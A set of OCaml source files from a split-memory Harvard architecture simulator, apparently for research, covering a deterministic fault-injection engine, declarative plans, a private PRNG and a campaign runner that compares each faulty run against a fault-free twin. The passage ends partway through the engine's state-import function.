    (Cmd.info "simctl" ~version:"1.0.0"
       ~doc:"Split-memory virtual Harvard architecture simulator control tool.")
    [ attack_cmd; grid_cmd; workload_cmd; stats_cmd; disasm_cmd; layout_cmd ]

let () = exit (Cmd.eval main)
