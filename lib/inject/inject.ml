(* Library interface: plans, the engine, and the campaign runner with its
   differential no-fault oracle.

   Every campaign run is paired with a fault-free twin of the same
   scenario; the two machines are compared bit-for-bit (rendered event log,
   stop reason, cycle counter — the replay-gate comparison). The verdict
   taxonomy:

   - [Detected]: the faulty run logged more detection-class events than the
     twin (TLB-guard resync, ECC correction, OOM containment, an injection
     detection or fail-stop signal the twin didn't have);
   - [Masked]: no detection fired, but the event log and stop reason are
     identical to the twin — the fault was absorbed (cycle counts may
     legitimately differ, e.g. a restarted syscall);
   - [Escaped]: the run diverged from the twin and nothing detected
     anything — the failure class campaigns exist to prove empty;
   - [Clean]: nothing was injected (budget never fired) and the run is
     bit-identical, cycles included — the oracle's control arm. A
     zero-injection run that diverges is reported [Escaped]: it means the
     injection machinery itself perturbed the machine, which would
     invalidate every other verdict. *)

module Prng = Prng
module Plan = Plan
module Engine = Engine

type outcome = Detected | Masked | Escaped | Clean

let outcome_name = function
  | Detected -> "detected"
  | Masked -> "masked"
  | Escaped -> "escaped"
  | Clean -> "clean"

type verdict = {
  v_label : string;
  v_scenario : string;
  v_seed : int;
  v_classes : string;
  v_outcome : outcome;
  v_injected : int;
  v_details : (string * int * string) list;
  v_detections : int;
  v_events_match : bool;
  v_cycles_match : bool;
  v_base_cycles : int;
  v_cycles : int;
  v_base_stop : string;
  v_stop : string;
}

let is_detection_event : Kernel.Event_log.event -> bool = function
  | Fault_detected _ | Injection_detected _ | Library_rejected _ | Signal_delivered _ ->
    true
  | _ -> false

let stop_name : Kernel.Os.stop_reason -> string = function
  | All_exited -> "all-exited"
  | All_blocked -> "all-blocked"
  | Fuel_exhausted -> "fuel-exhausted"

let scenario_of (plan : Plan.t) =
  match Snap.Scenario.find plan.scenario with
  | Some s -> s
  | None -> invalid_arg ("Inject: unknown scenario " ^ plan.scenario)

let rendered_events os =
  List.map
    (fun e -> Fmt.str "%a" Kernel.Event_log.pp_event e)
    (Kernel.Event_log.to_list (Kernel.Os.log os))

(* Detection events of a run, rendered. The oracle compares these as a
   multiset: a detection event in the faulty run with no counterpart in the
   twin means a detector (or the kernel's fail-stop containment) fired on
   the fault. A plain count delta is wrong here — a fault that kills the
   victim early can remove the twin's detections while adding its own, and
   the counts cancel out. *)
let detection_events os =
  List.filter_map
    (fun e ->
      if is_detection_event e then Some (Fmt.str "%a" Kernel.Event_log.pp_event e)
      else None)
    (Kernel.Event_log.to_list (Kernel.Os.log os))

(* |a \ b| as multisets: occurrences of [b] elements are removed from [a]
   one-for-one. *)
let novel_events a b =
  let remove_first x l =
    let rec go acc = function
      | [] -> List.rev acc
      | y :: rest -> if y = x then List.rev_append acc rest else go (y :: acc) rest
    in
    go [] l
  in
  List.length (List.fold_left (fun acc x -> remove_first x acc) a b)

let cycles_of os = (Kernel.Os.cost os).Hw.Cost.cycles

let run_plan ?obs (plan : Plan.t) =
  let scenario = scenario_of plan in
  (* the fault-free twin first: same constructor, same seed, no engine *)
  let base = scenario.start ?obs () in
  let base_stop = Kernel.Os.run ~fuel:plan.fuel base in
  (* the armed run *)
  let os = scenario.start ?obs () in
  let eng = Engine.arm os plan in
  let stop = Kernel.Os.run ~fuel:plan.fuel os in
  let base_events = rendered_events base and events = rendered_events os in
  let events_match = base_events = events && base_stop = stop in
  let base_cycles = cycles_of base and run_cycles = cycles_of os in
  let cycles_match = base_cycles = run_cycles in
  let injected = Engine.injected_count eng in
  let det_delta = novel_events (detection_events os) (detection_events base) in
  let outcome =
    if injected = 0 then if events_match && cycles_match then Clean else Escaped
    else if Engine.detections eng > 0 || det_delta > 0 then Detected
    else if events_match then Masked
    else Escaped
  in
  {
    v_label = plan.label;
    v_scenario = plan.scenario;
    v_seed = plan.seed;
    v_classes = Plan.classes_string plan.classes;
    v_outcome = outcome;
    v_injected = injected;
    v_details =
      List.map
        (fun (i : Engine.injected) -> (Plan.class_name i.i_class, i.i_cycle, i.i_detail))
        (Engine.injected eng);
    v_detections = Engine.detections eng;
    v_events_match = events_match;
    v_cycles_match = cycles_match;
    v_base_cycles = base_cycles;
    v_cycles = run_cycles;
    v_base_stop = stop_name base_stop;
    v_stop = stop_name stop;
  }

(* Campaign over the fleet: one job per plan (twin + armed run inside the
   job, so any -j level sees self-contained work), results in submission
   order — the rendered summary is byte-identical for every -j. *)
let campaign ?obs ?jobs plans =
  let results =
    Fleet.map ?obs ?jobs ~label:(fun (p : Plan.t) -> p.label) (run_plan ?obs:None) plans
  in
  List.map2
    (fun (p : Plan.t) r ->
      match r with
      | Ok v -> v
      | Error (e : Fleet.error) ->
        failwith (Fmt.str "inject: plan %s crashed: %s" p.label e.reason))
    plans results

(* The CI campaign: every class against the benign scenario, plus the
   classes that interact with split bookkeeping against a live attack. *)
let default_plans ?(seed = 7) () =
  let on scenario cls =
    Plan.make
      ~label:(Fmt.str "%s@%s" (Plan.class_name cls) scenario)
      ~scenario ~seed ~classes:[ cls ] ()
  in
  List.map (on "benign") Plan.all_classes
  @ List.map (on "attack-break")
      [ Plan.Tlb_phantom; Plan.Tlb_wrong_pfn; Plan.Pte_flip; Plan.Frame_flip_code ]

(* The code-reuse extension of the oracle: the same differential twin
   runs pointed at the defense x attack cross-product scenarios — the ROP
   chain escaping split memory alone, and the CFI-stopped reuse attacks.
   The split-bookkeeping classes are the interesting ones: they perturb
   exactly the paging state those runs traverse, and the oracle proves a
   hardware fault cannot silently flip a matrix cell (shell where a
   detection belongs, or vice versa) without the divergence showing. *)
let reuse_plans ?(seed = 7) () =
  let on scenario cls =
    Plan.make
      ~label:(Fmt.str "%s@%s" (Plan.class_name cls) scenario)
      ~scenario ~seed ~classes:[ cls ] ()
  in
  List.concat_map
    (fun scenario ->
      List.map (on scenario)
        [ Plan.Tlb_phantom; Plan.Tlb_wrong_pfn; Plan.Pte_flip; Plan.Frame_flip_code ])
    [ "reuse-rop"; "reuse-rop-cfi"; "reuse-fptr-cfi" ]

let escaped verdicts = List.filter (fun v -> v.v_outcome = Escaped) verdicts

let tally verdicts =
  let count o = List.length (List.filter (fun v -> v.v_outcome = o) verdicts) in
  (count Detected, count Masked, count Escaped, count Clean)

let render_summary ppf verdicts =
  Fmt.pf ppf "fault-injection campaign: %d plans (each paired with a fault-free twin)@\n@\n"
    (List.length verdicts);
  Fmt.pf ppf "%-28s %-16s %4s  %-9s %3s %3s %-8s %s@\n" "plan" "scenario" "seed"
    "outcome" "inj" "det" "run" "cycles base->faulty";
  List.iter
    (fun v ->
      Fmt.pf ppf "%-28s %-16s %4d  %-9s %3d %3d %-8s %d->%d@\n" v.v_label v.v_scenario
        v.v_seed (outcome_name v.v_outcome) v.v_injected v.v_detections
        (if v.v_events_match then "ok" else "diverged")
        v.v_base_cycles v.v_cycles)
    verdicts;
  (* escaped runs print their injection journal — the first thing a
     diagnosis needs *)
  List.iter
    (fun v ->
      if v.v_outcome = Escaped then
        List.iter
          (fun (cls, cycle, detail) ->
            Fmt.pf ppf "  ! %s: %s at cycle %d: %s@\n" v.v_label cls cycle detail)
          v.v_details)
    verdicts;
  (* per-class roll-up, in order of first appearance *)
  let classes =
    List.fold_left
      (fun acc v -> if List.mem v.v_classes acc then acc else acc @ [ v.v_classes ])
      [] verdicts
  in
  Fmt.pf ppf "@\nper-class:@\n";
  List.iter
    (fun cls ->
      let vs = List.filter (fun v -> v.v_classes = cls) verdicts in
      let injected = List.fold_left (fun a v -> a + v.v_injected) 0 vs in
      let d, m, e, c = tally vs in
      Fmt.pf ppf "  %-20s plans=%d injected=%d detected=%d masked=%d escaped=%d clean=%d@\n"
        cls (List.length vs) injected d m e c)
    classes;
  let d, m, e, c = tally verdicts in
  let injected = List.fold_left (fun a v -> a + v.v_injected) 0 verdicts in
  Fmt.pf ppf "@\ntotal: injected=%d detected=%d masked=%d escaped=%d clean=%d@\n" injected
    d m e c

let summary_string verdicts = Fmt.str "%a" render_summary verdicts

(* ------------------------------------------------------------------ *)
(* Snapshot integration                                                *)
(* ------------------------------------------------------------------ *)

let meta_plan_key = "inject.plan"
let meta_state_key = "inject.state"

let checkpoint os engine =
  Snap.Snapshot.checkpoint
    ~meta:
      [
        (meta_plan_key, Plan.to_string (Engine.plan engine));
        (meta_state_key, Engine.export engine);
      ]
    os

let rearm os snap =
  match
    (Snap.Snapshot.find_meta snap meta_plan_key, Snap.Snapshot.find_meta snap meta_state_key)
  with
  | Some p, Some st -> Engine.rearm os (Plan.of_string p) st
  | _ -> invalid_arg "Inject.rearm: snapshot carries no injector state"
