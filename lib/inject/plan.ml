(* Declarative fault-injection plans: everything a campaign run needs to
   reproduce a faulty machine bit-for-bit — scenario, seed, fault classes,
   trigger window, budget — in one serializable value. *)

type fault_class =
  | Tlb_wrong_pfn
  | Tlb_wrong_perms
  | Tlb_phantom
  | Pte_flip
  | Frame_flip_code
  | Frame_flip_data
  | Alloc_exhaustion
  | Syscall_transient

let all_classes =
  [
    Tlb_wrong_pfn;
    Tlb_wrong_perms;
    Tlb_phantom;
    Pte_flip;
    Frame_flip_code;
    Frame_flip_data;
    Alloc_exhaustion;
    Syscall_transient;
  ]

let class_name = function
  | Tlb_wrong_pfn -> "tlb-wrong-pfn"
  | Tlb_wrong_perms -> "tlb-wrong-perms"
  | Tlb_phantom -> "tlb-phantom"
  | Pte_flip -> "pte-flip"
  | Frame_flip_code -> "frame-flip-code"
  | Frame_flip_data -> "frame-flip-data"
  | Alloc_exhaustion -> "alloc-exhaustion"
  | Syscall_transient -> "syscall-transient"

let class_of_name s = List.find_opt (fun c -> class_name c = s) all_classes

type trigger = { at_cycle : int; every : int; pid : int option; vpn : int option }

type t = {
  label : string;
  scenario : string;
  seed : int;
  classes : fault_class list;
  trigger : trigger;
  budget : int;
  fuel : int;
}

let classes_string classes = String.concat "," (List.map class_name classes)

(* Defaults sized to the canonical scenarios (a few thousand cycles end to
   end): first fire around cycle 2000, then every 600 cycles of scheduler
   boundaries until the budget is spent. *)
let make ?label ?(scenario = "benign") ?(seed = 7) ?(classes = all_classes)
    ?(at_cycle = 2_000) ?(every = 600) ?pid ?vpn ?(budget = 4) ?(fuel = 1_000_000) () =
  if budget < 0 then invalid_arg "Plan.make: negative budget";
  if classes = [] then invalid_arg "Plan.make: empty class list";
  let label =
    match label with
    | Some l -> l
    | None ->
      Fmt.str "%s@%s"
        (match classes with [ c ] -> class_name c | _ -> "mixed")
        scenario
  in
  { label; scenario; seed; classes; trigger = { at_cycle; every; pid; vpn }; budget; fuel }

(* key=value serialization for snapshot metadata. Labels and scenario names
   must not contain ';' (they never do: ours are short slugs). *)
let to_string p =
  Fmt.str "label=%s;scenario=%s;seed=%d;classes=%s;at_cycle=%d;every=%d;pid=%d;vpn=%d;budget=%d;fuel=%d"
    p.label p.scenario p.seed (classes_string p.classes) p.trigger.at_cycle
    p.trigger.every
    (Option.value p.trigger.pid ~default:(-1))
    (Option.value p.trigger.vpn ~default:(-1))
    p.budget p.fuel

let of_string s =
  let corrupt msg = invalid_arg ("Plan.of_string: " ^ msg) in
  let fields =
    List.filter_map
      (fun kv ->
        if kv = "" then None
        else
          match String.index_opt kv '=' with
          | None -> corrupt ("malformed field " ^ kv)
          | Some i ->
            Some (String.sub kv 0 i, String.sub kv (i + 1) (String.length kv - i - 1)))
      (String.split_on_char ';' s)
  in
  let get k =
    match List.assoc_opt k fields with Some v -> v | None -> corrupt ("missing " ^ k)
  in
  let int k = match int_of_string_opt (get k) with
    | Some v -> v
    | None -> corrupt ("bad integer for " ^ k)
  in
  let opt k = match int k with -1 -> None | v -> Some v in
  let classes =
    List.map
      (fun n ->
        match class_of_name n with
        | Some c -> c
        | None -> corrupt ("unknown fault class " ^ n))
      (String.split_on_char ',' (get "classes"))
  in
  {
    label = get "label";
    scenario = get "scenario";
    seed = int "seed";
    classes;
    trigger = { at_cycle = int "at_cycle"; every = int "every"; pid = opt "pid"; vpn = opt "vpn" };
    budget = int "budget";
    fuel = int "fuel";
  }
