(* splitmix64: the injector's private PRNG. Deliberately not
   [Stdlib.Random]: one int64 of state makes the cursor trivially
   serializable into snapshot metadata, the sequence is stable across OCaml
   versions (verdicts are golden-tested), and it cannot collide with the
   kernel's own PRNG. *)

type t = { mutable s : int64 }

let gamma = 0x9E3779B97F4A7C15L

let make seed = { s = Int64.mul (Int64.of_int (seed + 1)) gamma }

let next t =
  t.s <- Int64.add t.s gamma;
  let z = t.s in
  let z = Int64.mul (Int64.logxor z (Int64.shift_right_logical z 30)) 0xBF58476D1CE4E5B9L in
  let z = Int64.mul (Int64.logxor z (Int64.shift_right_logical z 27)) 0x94D049BB133111EBL in
  Int64.logxor z (Int64.shift_right_logical z 31)

let int t bound =
  if bound <= 0 then invalid_arg "Prng.int: bound must be positive";
  Int64.to_int (Int64.rem (Int64.shift_right_logical (next t) 1) (Int64.of_int bound))

let state t = Int64.to_string t.s

let set_state t s =
  match Int64.of_string_opt s with
  | Some v -> t.s <- v
  | None -> invalid_arg "Prng.set_state: not an int64"
