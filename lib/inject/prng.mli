(** The injector's private deterministic PRNG (splitmix64).

    Separate from the kernel's [Random.State] so arming an injector never
    perturbs machine behaviour, and serializable as a single int64 so an
    interrupted campaign resumes mid-sequence. *)

type t

val make : int -> t
val next : t -> int64
val int : t -> int -> int
(** [int t bound] draws uniformly from [0, bound). *)

val state : t -> string
(** The cursor, as decimal text (snapshot metadata). *)

val set_state : t -> string -> unit
