(** The deterministic fault-injection engine: arms a plan onto one live
    machine through the explicit hardware/kernel hook points, fires faults
    at scheduler boundaries, and wires up the graceful-degradation
    detectors (TLB-guard desync audit, ECC correct-on-read, OOM
    containment, syscall restart).

    Everything is per-machine state — no globals — so fleets of armed
    machines run concurrently on separate domains. An armed engine whose
    plan never fires (zero budget, unreachable trigger) leaves the run
    bit-identical to an unarmed one: that invariant is the foundation of
    the differential oracle and is property-tested. *)

type injected = {
  i_class : Plan.fault_class;
  i_cycle : int;  (** cycle counter at injection *)
  i_pid : int;  (** pid last running when the fault landed *)
  i_detail : string;  (** human-readable target description *)
}

type t

val arm : Kernel.Os.t -> Plan.t -> t
(** Install the engine on a machine: enables the physical-memory ECC
    shadow, the MMU TLB guard and invlpg hook, the scheduler-boundary
    inject hook and the syscall squeeze. Arm before running the guest. *)

val disarm : t -> unit
(** Remove every hook installed by {!arm} (including the ECC shadow). *)

val plan : t -> Plan.t
val injected_count : t -> int
val injected : t -> injected list
(** Oldest first. *)

val detections : t -> int
(** Detector firings (TLB-guard resyncs + ECC corrections) so far. *)

val pending_flips : t -> int
(** Injected frame flips not yet read (hence not yet corrected). *)

val fire : t -> unit
(** The scheduler-boundary callback ({!arm} installs it; exposed for
    tests). *)

val export : t -> string
(** Serialize the injector's volatile state — PRNG cursor, budget spent,
    next fire cycle, pending squeezes/suppressions/denials/flips, the
    injection journal — for snapshot metadata. The machine-side effects of
    past faults are in the snapshot itself. *)

val import : t -> string -> unit
(** Restore {!export}ed state into a freshly {!arm}ed engine, re-marking
    still-pending frame flips in the rebuilt ECC shadow.
    @raise Invalid_argument on malformed input. *)

val rearm : Kernel.Os.t -> Plan.t -> string -> t
(** [arm] + [import]: call after {!Snap.Snapshot.restore} on the restored
    machine to resume an interrupted campaign run. *)
