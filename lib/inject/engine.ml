(* The deterministic fault-injection engine.

   One engine is armed per machine (fleet/domain-safe: every hook lives in
   per-machine mutable fields, never in globals). Faults fire from the
   kernel's scheduler-boundary inject hook — the quiescent points where the
   machine is resumable — and every random choice (class, target, bit)
   comes from the plan-seeded private PRNG, so a (plan, scenario) pair
   reproduces the same faulty machine bit-for-bit.

   The same engine also wires up the graceful-degradation detectors:

   - the MMU TLB guard, auditing every TLB hit against the live pagetable
     through {!Split_memory.entry_consistent} and resyncing (drop + refill)
     on mismatch — this catches a corrupted or phantom entry at translation
     time, before the stale access retires;
   - the physical-memory ECC shadow, correcting injected frame flips on
     first read;
   - allocator-exhaustion containment (the kernel's oom_kill path) and
     transient-syscall restart (ERESTART), which the kernel performs itself
     once the fault is injected.

   Every detection lands in the event log as [Fault_detected] and in the
   inject.* metrics when the machine is observed. *)

module K = Kernel

type injected = {
  i_class : Plan.fault_class;
  i_cycle : int;
  i_pid : int;
  i_detail : string;
}

type t = {
  plan : Plan.t;
  m : K.Machine.t;
  prng : Prng.t;
  mutable count : int;
  mutable injected_rev : injected list;
  mutable next_fire : int;
  mutable squeeze_left : int;
  mutable suppress_invlpg : int;
  mutable suppressed : int;
  mutable pending_ecc : (int * int) list;  (* packed paddr, good byte *)
  mutable detections : int;
}

let plan e = e.plan
let injected_count e = e.count
let injected e = List.rev e.injected_rev
let detections e = e.detections
let pending_flips e = List.length e.pending_ecc

let cycles e = (e.m.K.Machine.cost).Hw.Cost.cycles

let current_proc e =
  match e.m.K.Machine.last_running with
  | None -> None
  | Some pid -> (
    match K.Machine.proc e.m pid with
    | Some p when not (K.Proc.is_zombie p) -> Some p
    | _ -> None)

let record_detection e ~pid ~kind ~action ~metric =
  e.detections <- e.detections + 1;
  if Obs.enabled e.m.obs then Obs.count e.m.obs metric;
  K.Event_log.add e.m.log (K.Event_log.Fault_detected { pid; kind; action })

(* The TLB guard (hardened-kernel desync audit). Consistent entries cost a
   predicate call and nothing else, so an armed engine that never injects
   leaves the run bit-identical. A rejected entry is dropped by the MMU and
   refilled from the live pagetable; if the fault un-restricted a split PTE
   (re-merging the views) we also repair the supervisor bit — except inside
   Algorithm 1's own single-step window, where the PTE is deliberately
   unrestricted for the faulting vpn. *)
let guard e access (entry : Hw.Tlb.entry) =
  match current_proc e with
  | None -> true
  | Some p ->
    let pte = K.Aspace.pte p.aspace entry.vpn in
    Split_memory.entry_consistent ~access pte entry
    || begin
         (match pte with
         | Some pte
           when Split_memory.Splitter.is_active_split pte && pte.user
                && (match p.pending_fault_addr with
                   | Some a -> a / e.m.page_size <> entry.vpn
                   | None -> true) ->
           K.Pte.restrict pte
         | _ -> ());
         record_detection e ~pid:p.pid ~kind:"tlb-desync" ~action:"resync"
           ~metric:"inject.desyncs_detected";
         false
       end

let on_ecc e paddr =
  e.pending_ecc <- List.filter (fun (pa, _) -> pa <> paddr) e.pending_ecc;
  let pid = match current_proc e with Some p -> p.K.Proc.pid | None -> 0 in
  record_detection e ~pid ~kind:"ecc" ~action:"corrected" ~metric:"inject.ecc_corrected"

let on_invlpg e _vpn =
  e.suppress_invlpg > 0
  && begin
       e.suppress_invlpg <- e.suppress_invlpg - 1;
       e.suppressed <- e.suppressed + 1;
       if Obs.enabled e.m.obs then Obs.count e.m.obs "inject.invlpg_suppressed";
       true
     end

let on_syscall e (p : K.Proc.t) _n =
  e.squeeze_left > 0
  && (match e.plan.trigger.pid with None -> true | Some pid -> pid = p.pid)
  && begin
       e.squeeze_left <- e.squeeze_left - 1;
       if Obs.enabled e.m.obs then Obs.count e.m.obs "inject.syscalls_squeezed";
       true
     end

(* ------------------------------------------------------------------ *)
(* Target selection                                                    *)
(* ------------------------------------------------------------------ *)

let pick e = function
  | [] -> None
  | l -> Some (List.nth l (Prng.int e.prng (List.length l)))

let vpn_ok e vpn = match e.plan.trigger.vpn with None -> true | Some v -> v = vpn

let pick_entry e tlb =
  pick e (List.filter (fun (en : Hw.Tlb.entry) -> vpn_ok e en.vpn) (Hw.Tlb.entries tlb))

(* [iter_ptes] is hashtable-ordered; sort by vpn so target choice depends
   only on the logical pagetable, not on hashing history. *)
let ptes e (p : K.Proc.t) pred =
  let acc = ref [] in
  K.Aspace.iter_ptes p.aspace (fun pte ->
      if pte.K.Pte.present && vpn_ok e pte.vpn && pred pte then acc := pte :: !acc);
  List.sort (fun (a : K.Pte.t) b -> compare a.vpn b.vpn) !acc

let pick_pte e p pred = pick e (ptes e p pred)

let pick_tlb e =
  if Prng.int e.prng 2 = 0 then Hw.Mmu.itlb e.m.mmu else Hw.Mmu.dtlb e.m.mmu

(* ------------------------------------------------------------------ *)
(* Injectors — each returns a detail string, or None when no target
   exists right now (the budget is not consumed; the engine retries at
   the next boundary). Details must not contain ';' '@' or newlines
   (they ride in the serialized state). *)
(* ------------------------------------------------------------------ *)

let inject_tlb_wrong_pfn e =
  let tlb = pick_tlb e in
  match pick_entry e tlb with
  | None -> None
  | Some en ->
    let frames = Hw.Phys.frame_count e.m.phys in
    let f = en.frame lxor (1 lsl Prng.int e.prng 4) in
    let f = if f >= frames then (en.frame + 1) mod frames else f in
    ignore (Hw.Tlb.tamper tlb en.vpn (fun x -> { x with frame = f }) : bool);
    Some (Fmt.str "%s vpn=0x%x frame %d->%d" (Hw.Tlb.name tlb) en.vpn en.frame f)

let inject_tlb_wrong_perms e =
  let tlb = pick_tlb e in
  match pick_entry e tlb with
  | None -> None
  | Some en ->
    let bit = Prng.int e.prng 3 in
    let name, f =
      match bit with
      | 0 -> ("user", fun (x : Hw.Tlb.entry) -> { x with user = not x.user })
      | 1 -> ("writable", fun x -> { x with writable = not x.writable })
      | _ -> ("nx", fun x -> { x with nx = not x.nx })
    in
    ignore (Hw.Tlb.tamper tlb en.vpn f : bool);
    Some (Fmt.str "%s vpn=0x%x %s flipped" (Hw.Tlb.name tlb) en.vpn name)

(* A stale entry that a missed invlpg would have left behind: for a split
   page, an ITLB entry routing fetches at the *data* copy (the exact
   desync the paper's defense must never let stand); otherwise a mapped
   page's pre-remap entry with a wrong frame. Either way the next fetch
   or access through it must be caught by the guard before the stale
   translation retires. The next real invlpg is also swallowed. *)
let inject_tlb_phantom e p =
  let target =
    match pick_pte e p (fun pte -> Split_memory.Splitter.is_active_split pte) with
    | Some pte ->
      let s = Option.get pte.K.Pte.split in
      Hw.Tlb.insert (Hw.Mmu.itlb e.m.mmu)
        {
          vpn = pte.vpn;
          frame = s.data_frame;
          user = true;
          writable = pte.writable;
          nx = false;
        };
      Some (Fmt.str "itlb phantom vpn=0x%x -> data frame %d" pte.vpn s.data_frame)
    | None -> (
      match pick_pte e p (fun _ -> true) with
      | None -> None
      | Some pte ->
        let frames = Hw.Phys.frame_count e.m.phys in
        let f = (pte.K.Pte.frame + 1) mod frames in
        let tlb = pick_tlb e in
        Hw.Tlb.insert tlb
          {
            vpn = pte.vpn;
            frame = f;
            user = pte.user;
            writable = pte.writable;
            nx = pte.nx;
          };
        Some (Fmt.str "%s phantom vpn=0x%x -> frame %d" (Hw.Tlb.name tlb) pte.vpn f))
  in
  (match target with Some _ -> e.suppress_invlpg <- e.suppress_invlpg + 1 | None -> ());
  target

(* PTE flips restrict themselves to permission/present bits: a flipped
   frame number is indistinguishable from a legitimate remap to any
   consistency audit (the corrupted PTE is self-consistent), so frame
   corruption is modelled at the TLB level instead. *)
let inject_pte_flip e p =
  match pick_pte e p (fun _ -> true) with
  | None -> None
  | Some pte ->
    let bit = Prng.int e.prng 4 in
    let name =
      match bit with
      | 0 -> (pte.K.Pte.user <- not pte.user; "user")
      | 1 -> (pte.writable <- not pte.writable; "writable")
      | 2 -> (pte.nx <- not pte.nx; "nx")
      | _ -> (pte.present <- not pte.present; "present")
    in
    Some (Fmt.str "pte vpn=0x%x %s flipped" pte.vpn name)

let flip_frame e ~frame ~what ~vpn =
  let off = Prng.int e.prng (Hw.Phys.page_size e.m.phys) in
  let bit = Prng.int e.prng 8 in
  let good = Hw.Phys.read8 e.m.phys ~frame ~off in
  Hw.Phys.flip_bit e.m.phys ~frame ~off ~bit;
  e.pending_ecc <-
    (Hw.Phys.addr e.m.phys ~frame ~off, good) :: e.pending_ecc;
  Some (Fmt.str "%s frame %d vpn=0x%x off=0x%x bit=%d" what frame vpn off bit)

let inject_frame_flip_code e p =
  match pick_pte e p (fun pte -> K.Pte.is_split pte) with
  | Some pte ->
    flip_frame e ~frame:(K.Pte.code_frame pte) ~what:"code-copy" ~vpn:pte.K.Pte.vpn
  | None -> (
    match pick_pte e p (fun _ -> true) with
    | None -> None
    | Some pte -> flip_frame e ~frame:(K.Pte.code_frame pte) ~what:"code" ~vpn:pte.vpn)

let inject_frame_flip_data e p =
  match pick_pte e p (fun pte -> K.Pte.is_split pte) with
  | Some pte ->
    flip_frame e ~frame:(K.Pte.data_frame pte) ~what:"data-copy" ~vpn:pte.K.Pte.vpn
  | None -> (
    match pick_pte e p (fun _ -> true) with
    | None -> None
    | Some pte -> flip_frame e ~frame:(K.Pte.data_frame pte) ~what:"data" ~vpn:pte.vpn)

let inject_alloc_exhaustion e =
  let n = 1 + Prng.int e.prng 2 in
  K.Frame_alloc.set_deny_next e.m.alloc (K.Frame_alloc.deny_next e.m.alloc + n);
  Some (Fmt.str "deny next %d frame allocations" n)

let inject_syscall_transient e =
  let n = 1 + Prng.int e.prng 2 in
  e.squeeze_left <- e.squeeze_left + n;
  Some (Fmt.str "squeeze next %d syscalls" n)

let try_inject e p = function
  | Plan.Tlb_wrong_pfn -> inject_tlb_wrong_pfn e
  | Plan.Tlb_wrong_perms -> inject_tlb_wrong_perms e
  | Plan.Tlb_phantom -> inject_tlb_phantom e p
  | Plan.Pte_flip -> inject_pte_flip e p
  | Plan.Frame_flip_code -> inject_frame_flip_code e p
  | Plan.Frame_flip_data -> inject_frame_flip_data e p
  | Plan.Alloc_exhaustion -> inject_alloc_exhaustion e
  | Plan.Syscall_transient -> inject_syscall_transient e

(* Scheduler-boundary firing: under budget, past the trigger cycle, with a
   live (and trigger-matching) current process. A class with no target at
   this boundary does not consume budget — the engine retries. *)
let fire e =
  if e.count < e.plan.budget && cycles e >= e.next_fire then begin
    match current_proc e with
    | Some p
      when (match e.plan.trigger.pid with None -> true | Some pid -> pid = p.pid) -> (
      let cls = List.nth e.plan.classes (Prng.int e.prng (List.length e.plan.classes)) in
      match try_inject e p cls with
      | Some detail ->
        e.count <- e.count + 1;
        e.injected_rev <-
          { i_class = cls; i_cycle = cycles e; i_pid = p.pid; i_detail = detail }
          :: e.injected_rev;
        if Obs.enabled e.m.obs then Obs.count e.m.obs "inject.injected";
        e.next_fire <-
          (if e.plan.trigger.every > 0 then cycles e + e.plan.trigger.every else max_int)
      | None -> ())
    | _ -> ()
  end

let arm os plan =
  let m = K.Os.machine os in
  let e =
    {
      plan;
      m;
      prng = Prng.make plan.Plan.seed;
      count = 0;
      injected_rev = [];
      next_fire = plan.trigger.at_cycle;
      squeeze_left = 0;
      suppress_invlpg = 0;
      suppressed = 0;
      pending_ecc = [];
      detections = 0;
    }
  in
  Hw.Phys.enable_ecc m.phys;
  Hw.Phys.set_ecc_hook m.phys (Some (on_ecc e));
  Hw.Mmu.set_tlb_guard m.mmu (Some (guard e));
  Hw.Mmu.set_invlpg_hook m.mmu (Some (on_invlpg e));
  m.inject_hook <- Some (fun () -> fire e);
  m.syscall_squeeze <- Some (on_syscall e);
  e

let disarm e =
  Hw.Mmu.set_tlb_guard e.m.mmu None;
  Hw.Mmu.set_invlpg_hook e.m.mmu None;
  Hw.Phys.set_ecc_hook e.m.phys None;
  Hw.Phys.disable_ecc e.m.phys;
  e.m.inject_hook <- None;
  e.m.syscall_squeeze <- None

(* ------------------------------------------------------------------ *)
(* Serialization (snapshot metadata)                                   *)
(* ------------------------------------------------------------------ *)

let export e =
  let pend =
    String.concat ","
      (List.map (fun (pa, good) -> Fmt.str "%d:%d" pa good) e.pending_ecc)
  in
  let inj =
    String.concat ";"
      (List.map
         (fun i ->
           Fmt.str "%s@%d@%d@%s" (Plan.class_name i.i_class) i.i_cycle i.i_pid i.i_detail)
         (injected e))
  in
  String.concat "\n"
    [
      "prng=" ^ Prng.state e.prng;
      "count=" ^ string_of_int e.count;
      "next_fire=" ^ string_of_int e.next_fire;
      "squeeze=" ^ string_of_int e.squeeze_left;
      "suppress=" ^ string_of_int e.suppress_invlpg;
      "suppressed=" ^ string_of_int e.suppressed;
      "detections=" ^ string_of_int e.detections;
      "deny=" ^ string_of_int (K.Frame_alloc.deny_next e.m.alloc);
      "pend=" ^ pend;
      "inj=" ^ inj;
    ]

let import e s =
  let corrupt msg = invalid_arg ("Engine.import: " ^ msg) in
  let fields =
    List.filter_map
      (fun line ->
        if line = "" then None
        else
          match String.index_opt line '=' with
          | None -> corrupt ("malformed line " ^ line)
          | Some i ->
            Some (String.sub line 0 i, String.sub line (i + 1) (String.length line - i - 1)))
      (String.split_on_char '\n' s)
  in
  let get k =
    match List.assoc_opt k fields with Some v -> v | None -> corrupt ("missing " ^ k)
  in
  let int k = match int_of_string_opt (get k) with
    | Some v -> v
    | None -> corrupt ("bad integer for " ^ k)
  in
  Prng.set_state e.prng (get "prng");
  e.count <- int "count";
  e.next_fire <- int "next_fire";
  e.squeeze_left <- int "squeeze";
  e.suppress_invlpg <- int "suppress";
  e.suppressed <- int "suppressed";
  e.detections <- int "detections";
  K.Frame_alloc.set_deny_next e.m.alloc (int "deny");
  e.pending_ecc <-
    List.filter_map
      (fun kv ->
        if kv = "" then None
        else
          match String.index_opt kv ':' with
          | None -> corrupt ("malformed pending flip " ^ kv)
          | Some i ->
            Some
              ( int_of_string (String.sub kv 0 i),
                int_of_string (String.sub kv (i + 1) (String.length kv - i - 1)) ))
      (String.split_on_char ',' (get "pend"));
  e.injected_rev <-
    List.rev
      (List.filter_map
         (fun entry ->
           if entry = "" then None
           else
             match String.split_on_char '@' entry with
             | cls :: cycle :: pid :: rest ->
               let i_class =
                 match Plan.class_of_name cls with
                 | Some c -> c
                 | None -> corrupt ("unknown class " ^ cls)
               in
               Some
                 {
                   i_class;
                   i_cycle = int_of_string cycle;
                   i_pid = int_of_string pid;
                   i_detail = String.concat "@" rest;
                 }
             | _ -> corrupt ("malformed injection record " ^ entry))
         (String.split_on_char ';' (get "inj")));
